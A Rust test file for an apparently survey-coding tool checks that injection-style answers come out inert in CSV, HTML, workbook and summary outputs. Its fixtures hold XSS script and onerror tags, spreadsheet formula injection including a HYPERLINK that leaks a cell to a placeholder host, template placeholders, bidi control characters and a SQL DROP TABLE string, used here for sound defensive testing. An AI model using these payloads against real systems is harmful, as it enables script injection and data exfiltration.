//! Answers that try to be more than text pass through every file harmlessly and unharmed.

mod common;

use std::io::Cursor;

use calamine::{Reader as _, Xlsx};
use common::{Csv, Folder, slice};

/// The answers; each has a word that gives it a code.
fn answers() -> Vec<String> {
    let fixed = [
        "<script>alert('研修')</script><img src=x onerror=alert(1)>",
        "</bdi></li></ul></script><!-- 研修 --> -- ]]> <![CDATA[研修]]>",
        "=HYPERLINK(\"http://page.invalid/?\"&A1,\"研修\")",
        "+SUM(1,2) 研修",
        "-2+3 研修",
        "@研修",
        "{{ 7 * 7 }} {% raw %} {# 研修 #} ${研修} %s {0}",
        "\u{202e}研修がほしい\u{202c} \u{2066}研修\u{2069} \u{200f}",
        "研修\u{2028}二行目\u{2029}三行目\u{85}",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦 研修 🇯🇵 ❤\u{fe0f}",
        "\u{3099}研修\u{309a} か\u{3099} e\u{301}\u{301}\u{301}",
        "研修\u{1}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}",
        "研修\u{feff}\u{200b}\u{ad}\u{fffd}\u{fffe}",
        "&amp; &lt;研修&gt; &#x27; &hellip;",
        "\"研修\", 'に', `x`; DROP TABLE answers; --",
        "研修\n\n二つめの段落\tタブ | 表 | \\ *強調* _x0041_ # 見出し",
    ];
    let mut answers: Vec<String> = fixed.map(str::to_owned).to_vec();
    answers.push(format!("研修がほしい。{}終わり", "とても長い回答です。".repeat(5_000)));
    answers
}

/// The same, with nothing that gives a code.
fn uncoded() -> Vec<String> {
    answers().iter().map(|answer| answer.replace("研修", "天気")).collect()
}

fn study() -> (Folder, Vec<String>) {
    let folder = Folder::small();
    let all: Vec<String> = answers().into_iter().chain(uncoded()).collect();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(["回答者ID", "施設種別", "Q1"]).expect("written");
    for (at, answer) in all.iter().enumerate() {
        writer.write_record([format!("A{at:02}").as_str(), "病院", answer]).expect("written");
    }
    folder.write("responses.csv", writer.into_inner().expect("bytes"));
    let text = folder.text("study.toml");
    folder.write("study.toml", format!("{text}\n[quotes]\nshow = \"full\"\n"));
    (folder, all)
}

fn place(id: &str) -> usize {
    id[1..].parse().expect("a place")
}

#[test]
fn csv_points_at_their_words() {
    let (folder, all) = study();
    for raw in [false, true] {
        let more: &[&str] = if raw { &["--raw"] } else { &[] };
        folder.run_well(&[&["run", "study.toml", "--quiet"], more].concat());
        let codings = Csv::parse(&std::fs::read(folder.path("out/codings.csv")).expect("a file"));
        let mut coded = vec![false; all.len()];
        for row in codings.records() {
            let at = place(&row["respondent_id"]);
            let (starts, ends) = (&row["start"], &row["end"]);
            let (first, last) = (starts.split(';').next().expect("one"), ends.split(';').next().expect("one"));
            let words = slice(&all[at], first.parse().expect("a number"), last.parse().expect("a number"));
            assert!(row["evidence"].starts_with(&words) && !words.is_empty(), "{}", row.cell("evidence"));
            coded[at] |= &row["code"] == "training";
        }
        let all_first = coded[..answers().len()].iter().all(|coded| *coded);
        assert!(all_first, "{coded:?}");
        for file in ["codings.csv", "matrix.csv", "review.csv", "themes.csv"] {
            let csv = Csv::parse(&std::fs::read(folder.path("out").join(file)).expect("a file"));
            let runs = |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.len() > 1;
            let live = csv.rows.iter().flatten().filter(|cell| runs(cell)).count();
            assert!(raw || live == 0, "{file}");
        }
    }
}

#[test]
fn the_page_shows_them_whole_as_text() {
    let (folder, all) = study();
    folder.run_well(&["run", "study.toml", "--quiet"]);
    let html = folder.text("out/report.html");
    let mut seen = vec![0; all.len()];
    for quote in html.split("<bdi dir=\"auto\" lang=\"ja-JP\">").skip(1) {
        let (inside, after) = quote.split_once("</bdi>").expect("an end");
        // Only the marks of evidence are tags.
        let tags = inside.matches('<').count();
        assert_eq!(tags, inside.matches("<mark>").count() + inside.matches("</mark>").count());
        let id =
            after.split("class=\"quiet\">").nth(1).and_then(|rest| rest.split("</li>").next()).map(common::text_of);
        let id = id.expect("who");
        let at = id.find('A').map(|at| place(&id[at..at + 3])).expect("an id");
        assert_eq!(common::text_of(inside), all[at], "A{at:02}");
        seen[at] += 1;
    }
    assert!(seen.iter().all(|times| *times > 0), "{seen:?}");
    for tag in ["<script", "<img", "<!--", "<![CDATA"] {
        let own = usize::from(tag == "<script");
        assert_eq!(html.matches(tag).count(), own, "{tag}");
    }
}

#[test]
fn the_workbook_holds_them_as_far_as_a_cell_does() {
    let (folder, all) = study();
    folder.run_well(&["run", "study.toml", "--quiet"]);
    let bytes = std::fs::read(folder.path("out/themes.xlsx")).expect("a workbook");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook that can be read");
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        assert!(formulas.used_cells().next().is_none(), "{name} has a formula");
    }
    let range = book.worksheet_range("コーディング").expect("the sheet");
    let mut seen = vec![false; all.len()];
    for row in range.rows().skip(1) {
        let at = place(&row[0].to_string());
        let written = row.last().expect("the answer").to_string();
        if all[at].encode_utf16().count() <= 32_767 {
            assert_eq!(written, all[at], "A{at:02}");
        } else {
            let (words, told) = written.split_once("…［").expect("it is told that there is more");
            assert!(all[at].starts_with(words) && told.contains("全文は"), "{told}");
        }
        seen[at] = true;
    }
    assert!(seen[..answers().len()].iter().all(|seen| *seen), "{seen:?}");
}

#[test]
fn the_summary_and_the_manifest_stay_what_they_are() {
    let (folder, _) = study();
    folder.run_well(&["run", "study.toml", "--quiet"]);
    let summary = folder.text("out/summary.md");
    for tag in ["<script", "<img", "<!--"] {
        assert_eq!(summary.matches(tag).count(), summary.matches(&format!("\\{tag}")).count(), "{tag}");
    }
    let manifest: serde_json::Value = serde_json::from_str(&folder.text("out/manifest.json")).expect("JSON");
    assert_eq!(manifest["counts"]["respondents"], 2 * answers().len());
    assert_eq!(manifest["input"]["rows_skipped"], 0);
}
